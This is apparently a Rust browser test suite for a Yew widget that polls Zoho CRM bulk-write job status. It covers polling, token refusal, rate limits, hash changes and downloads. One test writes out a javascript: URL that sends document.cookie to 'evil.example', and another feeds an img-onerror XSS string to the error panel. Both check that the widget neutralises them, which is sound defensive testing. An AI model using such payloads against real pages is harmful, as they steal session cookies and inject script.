//! Browser tests of the hook and DOM wiring: the whole widget mounted in a real page with a fake
//! transport, fake timers and a fake page (visibility, clock) that the tests drive by hand. No
//! network, no sleeping: each step yields to the microtask queue and flushes Yew's scheduler.
#![cfg(target_arch = "wasm32")]

mod web_support;

use bulkwatch::net::HttpResponse;
use bulkwatch::token::Token;
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;
use web_support::{mount, mount_with, settle, JOB};

wasm_bindgen_test_configure!(run_in_browser);

const ADDED: &str = include_str!("fixtures/jobs/seed_added.json");
const RUNNING: &str = include_str!("fixtures/jobs/seed_in_progress.json");
const COMPLETED: &str = include_str!("fixtures/jobs/seed_completed.json");
const INVALID_TOKEN: &str = include_str!("fixtures/errors/invalid_token.json");
const TOO_MANY: &str = include_str!("fixtures/errors/too_many_requests.json");

#[wasm_bindgen_test]
async fn polls_one_at_a_time_until_completed() {
    let w = mount();
    settle().await;
    assert_eq!(w.http.count(), 1, "the first request goes at once");
    let req = w.http.request(0);
    assert_eq!(
        req.url,
        format!("https://www.zohoapis.com/crm/bulk/v8/write/{JOB}")
    );
    assert_eq!(req.token, Token::new("first-token"));
    assert!(!req.via_proxy);
    assert!(
        w.timers.live_polls().is_empty(),
        "no next poll while one is in flight"
    );

    w.http.respond_json(0, 200, ADDED);
    settle().await;
    assert_eq!(w.status().as_deref(), Some("added"));
    assert_eq!(w.text("request-count").as_deref(), Some("1"));
    assert_eq!(w.timers.live_polls().len(), 1);

    for (i, body, want) in [(1, RUNNING, "in_progress"), (2, COMPLETED, "completed")] {
        w.page.advance(5_000.0);
        w.timers.fire_poll();
        settle().await;
        assert_eq!(w.http.count(), i + 1);
        w.http.respond_json(i, 200, body);
        settle().await;
        assert_eq!(w.status().as_deref(), Some(want));
    }
    assert_eq!(w.text("request-count").as_deref(), Some("3"));
    assert!(w.timers.live_polls().is_empty(), "stopped at COMPLETED");
    assert_eq!(
        w.timers.live_any(),
        0,
        "request deadlines are cleared with their requests"
    );
    assert_eq!(w.text("count-skipped").as_deref(), Some("100"));
    assert!(w.q("download").is_some());
    let events = w
        .root
        .query_selector_all("[data-testid=\"timeline-event\"]")
        .unwrap();
    assert!(events.length() >= 3, "created, status changes, counts");
    // The live region announces the latest status change.
    let announced = w.text("status-announcer").unwrap_or_default();
    assert!(announced.contains("Completed"), "{announced}");
}

#[wasm_bindgen_test]
async fn a_late_answer_for_the_previous_job_is_dropped() {
    let w = mount();
    settle().await;
    assert_eq!(w.http.count(), 1);
    // Switch to another job while the first request is in flight (the form is folded while a
    // job is watched: "Change" opens it).
    w.click("connect-change");
    settle().await;
    w.type_into("job-input", "222");
    w.click("connect");
    settle().await;
    assert!(w.http.aborted(0), "the old job's fetch is aborted");
    assert_eq!(w.http.count(), 2);
    assert!(w.http.request(1).url.ends_with("/write/222"));
    // The old answer arrives anyway: nothing of it is shown.
    w.http.respond_json(0, 200, COMPLETED);
    settle().await;
    assert!(
        w.q("job-status").is_none(),
        "no status shown from the old job"
    );
    w.http.respond_json(1, 200, &ADDED.replace(JOB, "222"));
    settle().await;
    assert_eq!(w.text("job-id").as_deref(), Some("222"));
    assert_eq!(w.status().as_deref(), Some("added"));
    assert_eq!(w.text("request-count").as_deref(), Some("1"));
}

#[wasm_bindgen_test]
async fn a_hidden_page_makes_no_request_and_one_when_shown() {
    let w = mount();
    settle().await;
    w.http.respond_json(0, 200, ADDED);
    settle().await;
    assert_eq!(w.timers.live_polls().len(), 1);
    w.page.set_hidden(true);
    settle().await;
    assert!(w.timers.live_polls().is_empty(), "no timer while hidden");
    assert_eq!(w.http.count(), 1);
    let next = w.text("next-check").unwrap_or_default();
    assert!(next.contains("hidden"), "{next}");
    w.page.advance(600_000.0);
    w.page.set_hidden(false);
    settle().await;
    assert_eq!(w.http.count(), 2, "exactly one request once shown");
    w.page.set_hidden(false);
    settle().await;
    assert_eq!(w.http.count(), 2, "still one in flight");
}

#[wasm_bindgen_test]
async fn a_401_reopens_the_token_field_and_keeps_the_job() {
    let w = mount();
    settle().await;
    w.http.respond_json(0, 200, ADDED);
    settle().await;
    assert!(w.q("forget-token").is_some(), "a token is held");
    w.timers.fire_poll();
    settle().await;
    w.http.respond_json(1, 401, INVALID_TOKEN);
    settle().await;
    assert!(
        w.q("forget-token").is_none(),
        "the refused token is dropped"
    );
    let field = w.q("token-input").expect("the token field");
    assert_eq!(field.get_attribute("aria-invalid").as_deref(), Some("true"));
    let focused = web_sys::window()
        .unwrap()
        .document()
        .unwrap()
        .active_element();
    assert_eq!(focused.as_ref(), Some(&field), "and has the focus");
    assert_eq!(w.status().as_deref(), Some("added"), "what was shown stays");
    let code = w.q("error").and_then(|e| e.get_attribute("data-code"));
    assert_eq!(code.as_deref(), Some("INVALID_TOKEN"));
    assert!(
        w.timers.live_polls().is_empty(),
        "no polling without a token"
    );
    // A new token goes on at once, with the new token.
    w.type_into("token-input", "second-token");
    w.click("connect");
    settle().await;
    assert_eq!(w.http.count(), 3);
    assert_eq!(w.http.request(2).token, Token::new("second-token"));
    w.http.respond_json(2, 200, RUNNING);
    settle().await;
    assert!(w.q("error").is_none());
    assert_eq!(w.status().as_deref(), Some("in_progress"));
}

#[wasm_bindgen_test]
async fn forgetting_the_token_stops_requests() {
    let w = mount();
    settle().await;
    w.click("forget-token");
    settle().await;
    assert!(w.http.aborted(0), "the request in flight is abandoned");
    assert!(w.q("forget-token").is_none(), "no token held any more");
    assert!(w.timers.live_polls().is_empty());
    let html = w.root.inner_html();
    assert!(
        !html.contains("first-token"),
        "the token is nowhere in the DOM"
    );
}

#[wasm_bindgen_test]
async fn a_spent_budget_shows_resume() {
    let w = mount_with(&format!("#dc=eu&v=v8&job={JOB}"), 2);
    settle().await;
    assert!(w
        .http
        .request(0)
        .url
        .starts_with("https://www.zohoapis.eu/"));
    w.http.respond_json(0, 200, ADDED);
    settle().await;
    w.timers.fire_poll();
    settle().await;
    w.http.respond_json(1, 200, ADDED);
    settle().await;
    assert!(w.timers.live_polls().is_empty());
    assert!(w.q("resume").is_some(), "Resume is offered");
    assert_eq!(w.text("request-count").as_deref(), Some("2"));
    w.click("resume");
    settle().await;
    assert_eq!(w.http.count(), 3);
    assert!(w.q("resume").is_none());
}

#[wasm_bindgen_test]
async fn retry_after_is_honoured() {
    let w = mount();
    settle().await;
    w.http.respond(
        0,
        HttpResponse {
            status: 429,
            body: TOO_MANY.as_bytes().to_vec(),
            retry_after: Some("7".into()),
            ..HttpResponse::default()
        },
    );
    settle().await;
    assert_eq!(w.timers.live_polls(), vec![7_000]);
    let code = w.q("error").and_then(|e| e.get_attribute("data-code"));
    assert_eq!(code.as_deref(), Some("TOO_MANY_REQUESTS"));
}

#[wasm_bindgen_test]
async fn unmounting_aborts_the_fetch_and_clears_timers() {
    let mut w = mount();
    settle().await;
    w.destroy();
    settle().await;
    assert!(w.http.aborted(0));
    assert_eq!(w.timers.live_any(), 0);
    // A late answer after unmount is harmless.
    w.http.respond_json(0, 200, ADDED);
    settle().await;
    assert_eq!(w.http.count(), 1);
}

#[wasm_bindgen_test]
async fn a_hostile_download_url_is_never_linked_or_fetched() {
    let w = mount();
    settle().await;
    let hostile = COMPLETED.replace(
        "/v3/crm/org6196138/bulk-write/111111000000541958/111111000000541958.zip",
        "javascript:fetch('https://evil.example/?t='+document.cookie)",
    );
    w.http.respond_json(0, 200, &hostile);
    settle().await;
    assert_eq!(w.status().as_deref(), Some("completed"));
    assert!(w.q("download-unsafe").is_some());
    assert!(w.q("download").is_none());
    assert!(w.root.query_selector("a[href]").unwrap().is_none());
    assert_eq!(w.http.count(), 1, "nothing fetched");
}

#[wasm_bindgen_test]
async fn the_download_goes_with_the_token_to_the_resolved_url() {
    let w = mount();
    settle().await;
    w.http.respond_json(0, 200, COMPLETED);
    settle().await;
    w.click("download");
    settle().await;
    assert_eq!(w.http.count(), 2);
    let req = w.http.request(1);
    assert_eq!(
        req.url,
        format!("https://www.zohoapis.com/v3/crm/org6196138/bulk-write/{JOB}/{JOB}.zip")
    );
    assert_eq!(req.token, Token::new("first-token"));
    w.http.respond(
        1,
        HttpResponse {
            status: 200,
            body: b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
            content_disposition: Some("attachment; filename=\"result-42.zip\"".into()),
            content_type: Some("application/zip".into()),
            retry_after: None,
        },
    );
    settle().await;
    let state = w.text("download-state").unwrap_or_default();
    assert!(state.contains("result-42.zip"), "{state}");
}

#[wasm_bindgen_test]
async fn the_file_row_count_gives_progress_where_zohos_total_cannot() {
    let w = mount();
    settle().await;
    w.http.respond_json(0, 200, RUNNING);
    settle().await;
    let progress = w.q("progress").unwrap();
    assert!(
        progress.get_attribute("aria-valuenow").is_none(),
        "unknown before"
    );
    let input: web_sys::HtmlInputElement = w.q("expected-rows").unwrap().dyn_into().unwrap();
    input.set_value("400");
    input
        .dispatch_event(&web_sys::Event::new("change").unwrap())
        .unwrap();
    settle().await;
    let now = w
        .q("progress")
        .and_then(|p| p.get_attribute("aria-valuenow"));
    assert_eq!(now.as_deref(), Some("25"), "100 of 400 rows");
}

#[wasm_bindgen_test]
async fn the_panic_panel_replaces_the_widget_with_text_only() {
    let w = mount();
    settle().await;
    bulkwatch::panic::show(&w.root, "<img src=x onerror=alert(1)>").unwrap();
    let panel = w.q("error").expect("the panel");
    assert_eq!(panel.get_attribute("data-code").as_deref(), Some("PANIC"));
    assert_eq!(panel.get_attribute("role").as_deref(), Some("alert"));
    assert!(
        w.root.query_selector("img").unwrap().is_none(),
        "text, never HTML"
    );
    assert!(panel
        .text_content()
        .unwrap_or_default()
        .contains("<img src=x onerror=alert(1)>"));
    assert!(w.q("job-input").is_none(), "the dead widget is gone");
}

#[wasm_bindgen_test]
async fn an_answer_not_understood_stops_until_check_again() {
    let w = mount();
    settle().await;
    w.http.respond_json(0, 200, ADDED);
    settle().await;
    w.timers.fire_poll();
    settle().await;
    w.http
        .respond_json(1, 200, include_str!("fixtures/malformed/html_502.html"));
    settle().await;
    let code = w.q("error").and_then(|e| e.get_attribute("data-code"));
    assert_eq!(code.as_deref(), Some("DECODE_HTML"));
    assert_eq!(w.status().as_deref(), Some("added"), "the job stays shown");
    assert!(w.timers.live_polls().is_empty(), "no retry on its own");
    w.click("retry");
    settle().await;
    assert_eq!(w.http.count(), 3, "one request at once");
    w.http.respond_json(2, 200, RUNNING);
    settle().await;
    assert!(w.q("error").is_none() && w.q("retry").is_none());
    assert_eq!(w.status().as_deref(), Some("in_progress"));
}

#[wasm_bindgen_test]
async fn a_link_followed_while_open_starts_afresh_without_the_token() {
    let w = web_support::mount_opts(&format!("#dc=us&v=v8&job={JOB}"), 300, true);
    settle().await;
    w.http.respond_json(0, 200, ADDED);
    settle().await;
    let window = web_sys::window().unwrap();
    let written = window.location().hash().unwrap();
    assert!(
        written.contains(&format!("job={JOB}")),
        "the fragment follows the job: {written}"
    );
    assert!(!written.contains("first-token"));
    // Someone follows another link: the fragment changes from outside.
    window
        .history()
        .unwrap()
        .replace_state_with_url(&wasm_bindgen::JsValue::NULL, "", Some("#dc=eu&v=v3&job=5"))
        .unwrap();
    window
        .dispatch_event(&web_sys::Event::new("hashchange").unwrap())
        .unwrap();
    settle().await;
    assert!(
        w.q("forget-token").is_none(),
        "the token is not carried over to the new link"
    );
    assert!(
        w.q("job-status").is_none(),
        "the old job is no longer shown"
    );
    let job: web_sys::HtmlInputElement = w.q("job-input").unwrap().dyn_into().unwrap();
    assert_eq!(job.value(), "5");
    assert!(w.timers.live_polls().is_empty());
    w.type_into("token-input", "eu-token");
    w.click("connect");
    settle().await;
    assert_eq!(w.http.count(), 2);
    assert_eq!(
        w.http.request(1).url,
        "https://www.zohoapis.eu/crm/bulk/v3/write/5"
    );
    assert_eq!(w.http.request(1).token, Token::new("eu-token"));
    window
        .history()
        .unwrap()
        .replace_state_with_url(&wasm_bindgen::JsValue::NULL, "", Some("#"))
        .unwrap();
}

#[wasm_bindgen_test]
async fn a_refusal_of_a_token_already_replaced_does_not_drop_the_new_one() {
    let w = mount();
    settle().await;
    // A new token is entered while the first request (with the old token) is out.
    w.click("connect-change");
    settle().await;
    w.type_into("token-input", "second-token");
    w.click("connect");
    settle().await;
    w.http.respond_json(0, 401, INVALID_TOKEN);
    settle().await;
    assert!(w.q("forget-token").is_some(), "the new token is kept");
    assert!(
        w.q("error").is_none(),
        "the old token's refusal is not shown"
    );
    assert_eq!(w.http.count(), 2, "asked again at once");
    assert_eq!(w.http.request(1).token, Token::new("second-token"));
}

/// Issue #14: a new token typed while a check is planned is used at once, not at the next
/// planned check (the old plan is dropped with it).
#[wasm_bindgen_test]
async fn a_new_token_while_watching_checks_at_once() {
    let w = mount();
    settle().await;
    w.http.respond_json(0, 200, RUNNING);
    settle().await;
    assert_eq!(w.timers.live_polls().len(), 1, "a check is planned");
    // The form is folded while a job is watched: a new token is typed after "Change".
    w.click("connect-change");
    settle().await;
    w.type_into("token-input", "second-token");
    w.click("connect");
    settle().await;
    assert_eq!(w.http.count(), 2, "checked at once with the new token");
    assert_eq!(w.http.request(1).token, Token::new("second-token"));
    assert!(w.timers.live_polls().is_empty(), "the old plan is dropped");
    w.http.respond_json(1, 200, RUNNING);
    settle().await;
    assert_eq!(w.timers.live_polls().len(), 1, "and a new one made");
}
